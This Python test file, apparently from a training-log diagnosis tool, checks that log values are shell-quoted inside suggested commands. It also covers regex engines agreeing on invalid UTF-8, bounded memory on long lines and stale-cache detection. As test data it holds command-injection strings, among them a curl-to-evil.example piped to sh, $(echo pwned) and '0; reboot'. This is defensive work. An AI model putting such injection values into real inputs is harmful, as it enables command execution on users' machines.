"""What a hostile or unlucky log, rule or file system cannot do to the engine: run commands
through a copy-pasted explanation, make the engines disagree, make a scan crawl or a split
grow with a line's length, or leave a rewritten rule stale."""

from __future__ import annotations

import io
import json
import os
import random
import re
import shlex
import shutil
import subprocess
import sys
import textwrap
import tracemalloc

import pytest

from conftest import run_cli
from troubleshoot import logfiles
from troubleshoot import usercache
from troubleshoot.engine import documents, loader
from troubleshoot.scan import engines as scanner, rewindow
from troubleshoot.engine.diagnose import interpolate, render_fix, scan_patterns
from troubleshoot.engine.ruleset import load_ruleset
from troubleshoot.scan import ScanPattern, scan_stream
from troubleshoot.model import FixRef
from troubleshoot.report.mdtext import to_plain

BACKENDS = (["re"] + (["re2"] if scanner.re2_available() else [])
            + (["hyperscan"] if scanner.hyperscan_available() else []))


def diagnose_json(*args: str, env: dict | None = None, timeout: float = 60) -> dict:
    p = run_cli("diagnose", "--no-probe", "--format", "json", *args, env=env, timeout=timeout)
    assert p.returncode == 0, p.stderr.decode()
    return json.loads(p.stdout)


def with_env(**extra: str) -> dict:
    env = dict(os.environ)
    env.update(extra)
    return env


# ------------------------------------------------------------ values inside commands

HOSTILE = "/opt/x;curl${IFS}-s${IFS}evil.example|sh;.so"

LIBRARY_RULE = r"""
rules:
- id: team-library-missing
  symptom: nan-loss
  title: library {library} missing
  severity: error
  match:
    log: ['OSError: (?P<library>\S+): cannot open shared object file']
  explain: |
    The library {library} is missing.

    Check it with `ldd {library} | grep cuda`, then:

    ```bash
    ldd -r {library} | grep -E 'undefined|not found'
    ```
  fixes:
    - fixer: advice
      title: "Run `ldconfig -p | grep {library}`"
  examples: {match: ["OSError: /x.so: cannot open shared object file"], no_match: ["ok"]}
"""


def shell_words(command: str) -> list[str]:
    """The words and operators a POSIX shell reads in a command line."""
    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    return list(lexer)


def test_a_captured_value_inside_a_command_is_shell_quoted_and_prose_shows_it_as_read(rules_dir, tmp_path):
    d = rules_dir({"team.yaml": LIBRARY_RULE})
    log = tmp_path / "train.log"
    log.write_text(f"OSError: {HOSTILE}: cannot open shared object file: No such file or directory\n")
    doc = diagnose_json("--rules", str(d), "--log", str(log))
    hit = next(x for x in doc["diagnoses"] if x["rule"] == "team-library-missing")
    explain = hit["explain"]
    # Prose shows the value as read: in Markdown its marks are escaped, so it reads as written
    # once rendered, and never becomes markup.
    assert f"The library {HOSTILE} is missing." in to_plain(explain)
    assert "The library /opt/x;curl\\${IFS}-s\\${IFS}evil.example\\|sh;.so is missing." in explain
    span = re.search(r"`(ldd [^`]*)`", explain).group(1)
    assert span == f"ldd {shlex.quote(HOSTILE)} | grep cuda"
    assert shell_words(span) == ["ldd", HOSTILE, "|", "grep", "cuda"]
    fenced = next(ln for ln in explain.splitlines() if ln.startswith("ldd -r"))
    assert shell_words(fenced) == ["ldd", "-r", HOSTILE, "|", "grep", "-E", "undefined|not found"]
    fix = re.search(r"`([^`]*)`", hit["fixes"][0]["title"]).group(1)
    assert shell_words(fix) == ["ldconfig", "-p", "|", "grep", HOSTILE]


VALUES = ["plain-1.so", "a b", "$(echo pwned)", "`echo pwned`", "x'y", 'x"y', "back\\slash", ";echo pwned",
          "it's $HOME & \"more\"", "-n", "*", "~root", "tab\there", "", "'", '"', "!!", "€uro"]


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
@pytest.mark.parametrize("template, want", [
    ("`printf '[%s]' {v}`", "[{v}]"),
    ("`printf '[%s]' pre{v}post`", "[pre{v}post]"),
    ("`printf '[%s]' \"in double {v} quotes\"`", "[in double {v} quotes]"),
    ("`printf '[%s]' 'in single {v} quotes'`", "[in single {v} quotes]"),
    ("```bash\n# it's a comment\nprintf '[%s]' {v}\n```", "[{v}]"),
    ("```\nprintf '[%s]' \\\n  \"{v}\"\n```", "[{v}]"),
])
def test_a_value_in_a_command_reaches_the_shell_as_one_word_in_every_quoting_context(template, want):
    for value in VALUES:
        text = interpolate(template, {"v": value})
        if text.startswith("```"):
            command = "\n".join(text.splitlines()[1:-1])
        else:
            command = re.fullmatch(r"(`+) ?(.*?) ?\1", text, re.S).group(2)
        out = subprocess.run(["bash", "--norc", "--noprofile", "-c", command], capture_output=True, timeout=10,
                             env={"PATH": os.environ.get("PATH", ""), "HOME": "/nonexistent"})
        assert out.stdout.decode() == want.format(v=value), (value, command)


def test_prose_keeps_values_as_read_and_safe_values_read_the_same_in_commands():
    assert interpolate("GPU {gpu} ({name}) failed", {"gpu": "0000:3b:00.0", "name": "a b; c"}) == \
        "GPU 0000:3b:00.0 (a b; c) failed"
    safe = {"gpu": "0000:3b:00.0", "path": "/usr/lib/x.so"}
    assert interpolate("run `nvidia-smi -i {gpu}` and `ls {path}`", safe) == \
        "run `nvidia-smi -i 0000:3b:00.0` and `ls /usr/lib/x.so`"
    assert interpolate("unknown `{nope}` stays", {}) == "unknown `{nope}` stays"
    assert interpolate("CUDA said: `{msg}`", {"msg": "out of memory"}) == "CUDA said: `out of memory`"
    assert interpolate('`python -c "import {m}"`', {"m": "it's"}) == '`python -c "import it\'s"`'


def test_a_backtick_in_a_value_cannot_end_its_code_span():
    text = interpolate("run `ls {p}` now", {"p": "x` and `curl evil|sh"})
    span = re.fullmatch(r"run (`+) (.*) \1 now", text)
    assert span and "`" * len(span.group(1)) not in span.group(2)
    assert shell_words(span.group(2)) == ["ls", "x` and `curl evil|sh"]


def test_a_fact_with_a_newline_cannot_end_a_fenced_block():
    text = interpolate("```bash\nls {a.b}\n```\nafter", {}, {"a": {"b": "x\n```\ncurl evil|sh"}})
    lines = text.splitlines()
    assert lines[0] == "```bash" and lines[2] == "```" and lines[3] == "after"
    assert shell_words(lines[1])[0] == "ls" and len(shell_words(lines[1])) == 2


def test_fix_titles_quote_values_in_commands_and_params_stay_as_read():
    fix = render_fix(FixRef("advice", "Run `nvidia-smi -r -i {gpu}`", {"gpu": "{gpu}"}), {"gpu": "0; reboot"}, None)
    assert fix.title == "Run `nvidia-smi -r -i '0; reboot'`"
    assert fix.params == {"gpu": "0; reboot"}


# ------------------------------------------------------------ invalid UTF-8: engines agree

SHIPPED = load_ruleset(use_config=False)
SHIPPED_PATTERNS = scan_patterns(SHIPPED.rules)
SOME_RULES = SHIPPED.rules[::5]  # every engine builds its matcher again as patterns retire: kept small
INVALID = [b"\xff", b"\xfe\xff", b"\xe9", b"\xc3", b"\xe6\xbc", b"\xed\xa0\x80", b"\xc0\xaf", b"\xf8\x88\x80\x80\x80",
           b"\x80", b"\xf4\x90\x80\x80"]
BYTE_PATTERNS = [
    ScanPattern("dot", "log", r"CUDA error: .* failed"),
    ScanPattern("nonspace", "log", r"cannot open (?P<lib>\S+): No such file"),
    ScanPattern("negated", "log", r"device [^ ]+ lost"),
    ScanPattern("counted", "log", r"rank (?P<r>.{1,3}) timed out"),
    ScanPattern("anchored", "log", r"^Segmentation fault.$"),
    ScanPattern("word", "log", r"\bXid\W+\d+"),
]


def summary(result) -> dict:
    return {k: (v.count, tuple((h.line, h.text, h.start, h.end) for h in v.lines), tuple(sorted(v.captures.items())))
            for k, v in result.hits.items()}


def invalid_utf8_log(seed: int, rules=SOME_RULES) -> bytes:
    """Shipped match examples and a few byte-level ones, each with invalid UTF-8 put inside it,
    before it, after it or on the lines around it."""
    rnd = random.Random(seed)
    texts = [t for r in rules for t in r.examples.match]
    texts += ["CUDA error: x y failed", "cannot open libz.so: No such file", "device gpu0 lost",
              "rank 7 timed out", "Segmentation fault.", "NVRM: Xid 79"] * 4
    lines = []
    for t in texts:
        b = t.encode()
        bad = rnd.choice(INVALID)
        where = rnd.randrange(5)
        if where == 0:
            k = rnd.randrange(len(b) + 1)
            lines.append(b[:k] + bad + b[k:])
        elif where == 1:
            lines.append(bad + b)
        elif where == 2:
            lines.append(b + bad)
        else:
            lines += [bad * rnd.randrange(1, 4), b, bad]
    lines += [b"CUDA error: \xff failed", b"cannot open lib\xe9.so: No such file", b"device gpu\xc3 lost",
              b"rank \xe6\xbc timed out", b"Segmentation fault\xff", b"NVRM: Xid \xff 79"]
    return b"\n".join(lines) + b"\n"


@pytest.mark.skipif(len(BACKENDS) < 2, reason="neither re2 nor hyperscan installed")
@pytest.mark.parametrize("chunk", [61, 1 << 20])
def test_engines_agree_on_lines_with_invalid_utf8(chunk):
    data = invalid_utf8_log(seed=chunk)
    patterns = scan_patterns(SOME_RULES) + BYTE_PATTERNS
    want = summary(scan_stream(io.BytesIO(data), patterns, "re", chunk_size=chunk))
    assert {"dot", "nonspace", "negated", "counted", "anchored", "word"} <= {g for g, _ in want}
    for backend in BACKENDS[1:]:
        for threads in ([0, 2] if backend == "hyperscan" else [0]):
            got = summary(scan_stream(io.BytesIO(data), patterns, backend, chunk_size=chunk, threads=threads))
            assert got == want, (backend, threads, sorted(set(got.items()) ^ set(want.items()))[:4])


@pytest.mark.slow
@pytest.mark.skipif(len(BACKENDS) < 2, reason="neither re2 nor hyperscan installed")
def test_a_log_with_invalid_utf8_diagnoses_the_same_whichever_engine_reads_it(tmp_path):
    log = tmp_path / "latin1.log"
    log.write_bytes(b"step 1 loss 0.5\n" + invalid_utf8_log(3, SHIPPED.rules[::20]) + b"step 2 loss 0.5\n")
    found = {}
    for backend in BACKENDS:
        doc = diagnose_json("--log", str(log), env=with_env(TROUBLESHOOT_SCAN_ENGINE=backend))
        found[backend] = sorted((x["rule"], x["count"], x["first_line"]) for x in doc["diagnoses"])
    assert all(got == found["re"] for got in found.values()), {b: len(v) for b, v in found.items()}


# ------------------------------------------------------------ the pure-Python engine stays bounded

SUPERLINEAR_RULES = r"""
rules:
- id: team-nested
  symptom: nan-loss
  title: nested
  severity: error
  match:
    log: ['(x+x+)+y']
  explain: x
  examples: {match: ["xxy"], no_match: ["z"]}
- id: team-overlap
  symptom: nan-loss
  title: overlapping alternatives
  severity: error
  match:
    log: ['step (?:.|\s)+ failed']
  explain: x
  examples: {match: ["step 12 failed"], no_match: ["z"]}
- id: team-backreference
  symptom: nan-loss
  title: backreference
  severity: error
  match:
    log: ['rank (\d+) waits for rank \1']
  explain: x
  examples: {match: ["rank 1 waits for rank 1"], no_match: ["z"]}
"""


def test_lint_rejects_superlinear_patterns_and_says_why(rules_dir):
    d = rules_dir({"team.yaml": SUPERLINEAR_RULES})
    p = run_cli("rules", "lint", "--rules", str(d), timeout=120)
    out = p.stdout.decode()
    assert p.returncode == 2, out
    for rule, reason in (("team-nested", "nested repetition"), ("team-overlap", "alternatives that overlap"),
                         ("team-backreference", "backreference")):
        said = [ln for ln in out.splitlines() if f"'{rule}'" in ln and reason in ln]
        assert said, (rule, out)
        assert all(": warning:" not in ln and "exponential time" in ln for ln in said), said


def test_superlinear_patterns_are_refused_where_no_re2_runs_them(rules_dir, monkeypatch):
    monkeypatch.setattr(scanner, "_re2", None)
    d = rules_dir({"team.yaml": SUPERLINEAR_RULES})
    loaded = loader.load_rule_file(d / "team.yaml", "team", load_ruleset(use_config=False).taxonomy)
    said = "\n".join(str(p) for p in loaded.problems)
    assert "nested repetition" in said and "overlap" in said and "backreference" in said
    assert [r.id for r in loaded.rules] == []


@pytest.mark.skipif(not scanner.re2_available(), reason="without RE2 the rule is refused (tested above)")
def test_the_python_engine_finishes_a_nested_team_pattern_and_agrees(rules_dir, tmp_path):
    d = rules_dir({"team.yaml": SUPERLINEAR_RULES})
    log = tmp_path / "x.log"
    log.write_text("x" * 42 + "\n" + "x" * 30 + "xy\n")
    # A backtracking search of the first line takes 2**42 steps: the timeout only guards the run.
    counts = {b: [(x["rule"], x["count"], x["first_line"]) for x in
                  diagnose_json("--rules", str(d), "--log", str(log), env=with_env(TROUBLESHOOT_SCAN_ENGINE=b),
                                timeout=120)["diagnoses"]]
              for b in ("re", BACKENDS[-1])}
    assert counts["re"] == [("team-nested", 1, 2)] == counts[BACKENDS[-1]]


class CountingPattern:
    """A compiled pattern that records the span of text each search is given."""

    def __init__(self, source: str):
        self._rx = re.compile(source, re.ASCII)
        self.pattern, self.flags, self.groupindex = self._rx.pattern, self._rx.flags, self._rx.groupindex
        self.spans: list[tuple[str, int, int]] = []

    def search(self, text: str, pos: int = 0, endpos: int | None = None):
        end = len(text) if endpos is None else min(endpos, len(text))
        self.spans.append((text[:20], pos, end))
        return self._rx.search(text, pos, end)


OOM_TEXT = "CUDA out of memory. Tried to allocate 2.00 GiB"
OOM_SOURCE = r"CUDA out of memory\. Tried to allocate (?P<req>[\d.]+ [KMG]iB)"


def test_the_python_engine_searches_long_lines_in_bounded_windows_and_only_where_literals_are():
    counted = CountingPattern(OOM_SOURCE)
    nolit = ScanPattern("nolit", "log", re.compile(r"^\d+ [a-z]+ed$", re.ASCII))
    short = [f"step {i} loss 0.5" for i in range(200)]
    long_line = "y" * 150_000 + " RuntimeError: " + OOM_TEXT + " " + "z" * 100_000
    data = "\n".join(short + [long_line] + short + ["3 failed"]).encode() + b"\n"
    r = scan_stream(io.BytesIO(data), [ScanPattern("oom", "log", counted), nolit], "re")
    hit = r.get("oom", "log")
    assert hit.count == 1 and hit.lines[0].line == 201 and hit.captures == {"req": "2.00 GiB"}
    assert r.get("nolit", "log").lines[0].line == 402
    assert counted.spans, "the long line was never searched"
    assert all(head.startswith("y") for head, _, _ in counted.spans)  # no line without its literal
    longest = max(end - pos for _, pos, end in counted.spans)
    assert longest <= rewindow.WINDOW < len(long_line)
    assert sum(end - pos for _, pos, end in counted.spans) <= 4 * rewindow.WINDOW


@pytest.mark.skipif(len(BACKENDS) < 2, reason="neither re2 nor hyperscan installed")
def test_the_python_engine_agrees_on_long_lines_wherever_windows_fall():
    w = rewindow.WINDOW
    offsets = sorted({k * w // 4 + d for k in range(1, 13) for d in (-len(OOM_TEXT), -20, -1, 0, 1, 7)})
    lines = ["a" * k + OOM_TEXT + " b" * (w // 2) for k in offsets] + ["aaaa" + OOM_TEXT + " c" * w]
    lines += ["b" * k + "Segmentation fault." for k in (w // 2 - 5, w, 3 * w)]  # `$` only at the line's end
    lines += ["x" * k + "Segmentation fault.x" + "y" * k for k in range(w // 2 - 30, w + 30, 7)]
    pats = [ScanPattern("oom", "log", OOM_SOURCE), ScanPattern("segv", "log", r"Segmentation fault\.$"),
            ScanPattern("start", "log", r"^a{4}CUDA"), ScanPattern("ahead", "log", r"fault\.(?!x)")]
    data = ("\n".join(lines) + "\n").encode()
    want = summary(scan_stream(io.BytesIO(data), pats, "re2" if "re2" in BACKENDS else "hyperscan"))
    assert want[("oom", "log")][0] == len(offsets) + 1 and want[("segv", "log")][0] == 3
    assert want[("start", "log")][0] == 1 and want[("ahead", "log")][0] == 3
    assert summary(scan_stream(io.BytesIO(data), pats, "re")) == want


@pytest.mark.slow
def test_the_python_engine_reads_a_long_line_of_shipped_literals_in_linear_work(tmp_path):
    log = tmp_path / "long.log"
    log.write_text("error failed CUDA NCCL cuda nccl torch " * 25_000 + "\n" + "x" * 1_000_000 + "\n")
    doc = diagnose_json("--log", str(log), env=with_env(TROUBLESHOOT_SCAN_ENGINE="re"), timeout=300)
    assert doc["lines"] == 2


def test_superlinear_shapes_are_named():
    from troubleshoot.scan.backtrack import superlinear as why

    assert "nested repetition" in why(re.compile(r"(x+x+)+y"))
    assert "nested repetition" in why(re.compile(r"^(\w+\s?)*$"))
    assert "nested repetition" in why(re.compile(r"(.*a){20}"))
    assert "overlap" in why(re.compile(r"(a|aa)+b"))
    assert "overlap" in why(re.compile(r"(?:.|\s)*z"))
    assert "overlap" in why(re.compile(r"(?i)(?:ab|Ax)+!"))
    assert "backreference" in why(re.compile(r"(a)\1"))
    assert "backreference" in why(re.compile(r"(?P<x>a)(?P=x)"))
    for fine in (r"(?:foo|bar)+", r"CUDA error: .* failed", r"(?:\d+\.){3}\d+", r"[a-z]+(?:-[a-z]+)*", r"x{2,5}",
                 r"(?:ab|cd){2}", r"(?:\s|,)+\d", r"(?:\d|\w)+", r"(?:a|b|c)+", r"(?:^|\s)x+",
                 r"(?:\d{1,3}\.){3}\d{1,3}", r"(?:[a-z]+/)+lib\.so"):
        assert why(re.compile(fine)) is None, fine


def test_no_shipped_pattern_is_superlinear():
    from troubleshoot.scan.backtrack import superlinear

    assert [p.source for p in SHIPPED_PATTERNS if superlinear(p.compiled)] == []


# ------------------------------------------------------------ merged logs: one long labelled line

def split_reference(data: bytes) -> dict:
    """What each rank's spool must hold: every line with its label cut, and its line number."""
    out: dict = {}
    lines = data.split(b"\n")
    if lines and lines[-1] == b"":
        lines.pop()
    for n, raw in enumerate(lines, 1):
        rank, cut = logfiles.label(raw + b"\n")
        text, numbers = out.get(rank, (b"", []))
        out[rank] = (text + raw[cut:] + b"\n", numbers + [n])
    return out


def split_now(data: bytes, folder, chunk: int | None = None) -> dict:
    from troubleshoot import labelsplit

    chunk = chunk or labelsplit.CHUNK_SIZE
    parts = labelsplit.split(io.BytesIO(data), str(folder), logfiles.label, chunk_size=chunk)
    return {rank: (open(path, "rb").read(), list(numbers)) for rank, path, numbers in parts}


@pytest.mark.parametrize("chunk", [1, 3, 7, 40, 1 << 20])
def test_a_merged_log_splits_into_the_same_ranks_and_line_numbers_whatever_the_reads(chunk, tmp_path):
    data = (b"0: [rank0]: start\n[rank12]: Traceback (most recent call last):\n3: hello\n\n"
            b"   7: padded label\nno label here\n[default2]:torchrun tee\n1: " + b"x" * 300 + b"\n"
            b"[rank3]: " + b"y" * 100 + b"\n123456: big rank\n[rank1]: no newline at the end")
    for k, case in enumerate((data, data + b"\n", b"[rank1]: ", b"5", b"\n\n")):
        folder = tmp_path / f"{chunk}-{k}"
        folder.mkdir()
        assert split_now(case, folder, chunk) == split_reference(case), case[:20]


def test_a_merged_log_with_one_long_labelled_line_splits_in_bounded_memory(tmp_path):
    from troubleshoot import labelsplit

    long_line = b"[rank3]: " + b"x" * (24 << 20) + b"\n"
    data = b"[rank1]: start\n" + long_line + b"0: end\n"
    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        parts = labelsplit.split(io.BytesIO(data), str(tmp_path), logfiles.label)
        peak = tracemalloc.get_traced_memory()[1] - before
    finally:
        tracemalloc.stop()
    assert peak < 4 * labelsplit.CHUNK_SIZE < len(long_line) // 4
    sizes = {rank: (os.path.getsize(path), list(numbers)) for rank, path, numbers in parts}
    assert sizes == {0: (4, [3]), 1: (6, [1]), 3: (len(long_line) - 9, [2])}


@pytest.mark.slow
def test_a_merged_log_file_with_a_300_mb_labelled_line_splits_in_bounded_memory(tmp_path):
    from troubleshoot import labelsplit

    log = tmp_path / "merged.log"
    with open(log, "wb") as f:
        f.write(b"[rank0]: step 1\n[rank2]: ")
        for _ in range(300):
            f.write(b"x" * (1 << 20))
        f.write(b"\n[rank2]: RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB\n")
    spools = tmp_path / "spools"
    spools.mkdir()
    tracemalloc.start()
    try:
        with open(log, "rb") as f:
            parts = labelsplit.split(f, str(spools), logfiles.label)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 4 * labelsplit.CHUNK_SIZE
    assert [(rank, list(numbers)) for rank, _, numbers in parts] == [(0, [1]), (2, [2, 3])]
    oom = b"RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB\n"
    assert os.path.getsize(parts[1][1]) == (300 << 20) + 1 + len(oom)


# ------------------------------------------------------------ a rule rewritten in place

TITLED = """\
rules:
- id: team-nan
  symptom: nan-loss
  title: {title}
  severity: error
  match:
    log: ['loss is nan']
  explain: x
  examples: {{match: ["loss is nan"], no_match: ["ok"]}}
"""


def test_a_rule_rewritten_with_the_same_size_and_mtime_takes_effect(rules_dir, tmp_path):
    d = rules_dir({"team.yaml": TITLED.format(title="first title")})
    rule = d / "team.yaml"
    log = tmp_path / "train.log"
    log.write_text("step 3 loss is nan\n")

    def title() -> str:
        doc = diagnose_json("--rules", str(d), "--log", str(log))
        return next(x["title"] for x in doc["diagnoses"] if x["rule"] == "team-nan")

    assert title() == "first title"
    assert title() == "first title"  # and now kept in every cache
    rewrite_keeping_size_and_mtime(rule, TITLED.format(title="other title"), renamed=False)  # `cp -p`
    assert title() == "other title"


def rewrite_keeping_size_and_mtime(path, text: str, renamed: bool) -> None:
    st = path.stat()
    if renamed:  # `rsync -t`: a new file renamed over the old one
        tmp = path.with_name(".new.tmp")
        tmp.write_text(text)
        os.replace(tmp, path)
    else:
        path.write_text(text)
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert (path.stat().st_size, path.stat().st_mtime_ns) == (st.st_size, st.st_mtime_ns)


@pytest.mark.parametrize("renamed", [False, True])
def test_a_rule_file_renamed_over_or_rewritten_in_place_is_read_again(renamed, rules_dir):
    d = rules_dir({"team.yaml": TITLED.format(title="first title")})
    rule = d / "team.yaml"
    assert "first title" in repr(documents.document(rule))
    rewrite_keeping_size_and_mtime(rule, TITLED.format(title="other title"), renamed)
    assert "other title" in repr(documents.document(rule))


def test_the_file_stamps_of_rule_caches_hold_change_time_inode_and_device(tmp_path):
    """Every on-disk cache stamps its source files the same way (usercache.file_stamp)."""
    from troubleshoot.engine import rulecache, ruleset

    f = tmp_path / "a.yaml"
    f.write_text("x")
    st = f.stat()
    (whole_set,) = rulecache.key([ruleset.Pack("team", tmp_path)], lambda pack: [f])[-1][-1]
    for stamp in (usercache.file_stamp(f), whole_set):
        assert {st.st_size, st.st_mtime_ns, st.st_ctime_ns, st.st_ino, st.st_dev} <= set(stamp)


def test_an_indented_code_block_quotes_its_values_and_prose_around_it_does_not():
    text = interpolate("Run:\n\n    ldd {lib} | grep cuda\n\nthen check {lib}.\n", {"lib": "a;b"})
    assert text == "Run:\n\n    ldd 'a;b' | grep cuda\n\nthen check a;b.\n"


def test_a_long_fenced_command_keeps_its_lines():
    text = interpolate(textwrap.dedent("""\
        ```bash
        ls {a} \\
          {b}
        ```"""), {"a": "x y", "b": "z"})
    assert text.splitlines() == ["```bash", "ls 'x y' \\", "  z", "```"]


@pytest.mark.slow
def test_diagnosing_a_merged_log_with_a_long_labelled_line_keeps_memory_flat(tmp_path):
    """The whole command, as a user runs it: one labelled line of 96 MiB between two short ones
    costs no more memory than a fixed amount over the scan's own buffers, and the rank's error
    after it is still found."""
    log = tmp_path / "merged.log"
    with open(log, "wb") as f:
        f.write(b"[rank0]: step 1\n[rank2]: ")
        for _ in range(96):
            f.write(b"x" * (1 << 20))
        f.write(b"\n[rank2]: RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB\n")
    # A fresh parent, so that the peak it reports for its children is this command's alone.
    probe = ("import resource, subprocess, sys; p = subprocess.run(sys.argv[1:], capture_output=True); "
             "sys.stdout.buffer.write(p.stdout); print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)")
    p = subprocess.run([sys.executable, "-c", probe, sys.executable, "-m", "troubleshoot", "diagnose", "--log", str(log),
                        "--no-probe", "--format", "json"], capture_output=True, text=True, timeout=300)
    report, _, peak_kib = p.stdout.rpartition("\n}\n")
    assert json.loads(report + "\n}")["diagnoses"][0]["symptom"] == "cuda-oom"
    assert int(peak_kib) < 160 * 1024  # the line alone is 96 MiB; a copy of it per read was 4x that


@pytest.mark.parametrize("regex", [r"[\x00-\x1f]x", r"[]a-]", r"[\^]", r"[^\^]", r"[-^]", r"[a\]^-]", r"[\\x]",
                                   r"[^\]]", r"[\w.-]+", r"[^\s]", r"[\x01-\x03]"])
def test_brackets_exported_for_grep_match_what_the_rule_matches(regex, tmp_path):
    """`rules patterns` hands the patterns to `grep -E -f`: a bracket holding control
    characters, ']', '-' or '^' must mean there what it means in the rule."""
    from troubleshoot.engine.ere import to_ere

    if shutil.which("grep") is None:
        pytest.skip("no grep on this machine")
    patterns = tmp_path / "p"
    patterns.write_bytes(to_ere(re.compile(regex)).encode() + b"\n")
    for sample in ("\x01x", "\x02", "a", "-", "]", "^", "b", "\\", "x", ".", " "):
        found = subprocess.run(["grep", "-qE", "-f", str(patterns)], input=sample.encode()).returncode == 0
        assert found == bool(re.search(regex, sample)), (regex, sample)


@pytest.mark.parametrize("line", [
    b"0/1 nodes are avai\x1b\x1b]52;c;eA==\x07[0mlable: 1 Insufficient nvidia.com/gpu.",
    b"RuntimeError: CUDA out of \x1b\x1b[31m[0mmemory. Tried to allocate 2.00 GiB",
    b"NCCL WARN \x1b\x1b]0;t\x07[1mCall to ibv_create_qp failed"])
def test_engines_agree_when_removing_an_escape_would_join_another(line):
    """A stray ESC before a sequence: once the sequence goes, what is left must not read as a
    new escape in a second pass of one engine only (a terminal shows the bracket text)."""
    found = {name: scan_stream(io.BytesIO(line + b"\n"), SHIPPED_PATTERNS, name).hits.keys() for name in BACKENDS}
    assert len({tuple(sorted(v)) for v in found.values()}) == 1, found


def test_atomic_groups_are_checked_like_any_group():
    """`(?>...)` (Python 3.11) holds its items directly, not in a capture's tuple: a rule file
    with one is linted, never a crash."""
    from troubleshoot.scan.backtrack import superlinear

    assert superlinear(re.compile(r"(?>P<kind>SW|HW) Thermal")) is None
    assert "nested repetition" in superlinear(re.compile(r"(?>(x+x+)+)y"))


@pytest.mark.parametrize("line", [b"LnkSta:\t\x0bSpeed 5GT/s (downgraded), Width x1 (downgraded)",
                                  b"ImportError: /opt/cudnn.cpython-36m-x\x0b86_64-linux-gnu.so: undefined symbol: "
                                  b"cudnnSetFilterNdDescriptor_v3",
                                  b"    SW Power Cap            \x0b      : Active",
                                  b"Timed out initializing process group in store based barrier on rank: 0, for key: "
                                  b"store_b\x0based_barrier_key:1 (world_size=2, worker_count=4, timeout=0:02:00)"])
def test_engines_agree_on_a_vertical_tab_where_patterns_read_whitespace(line):
    """RE2's \\s is [\\t\\n\\f\\r ]; Python's and hyperscan's also take \\v: the `re` engine must
    read \\s as RE2 does, and hyperscan's candidates must include every line RE2 then matches."""
    found = {name: scan_stream(io.BytesIO(line + b"\n"), SHIPPED_PATTERNS, name).hits.keys() for name in BACKENDS}
    assert len({tuple(sorted(v)) for v in found.values()}) == 1, found
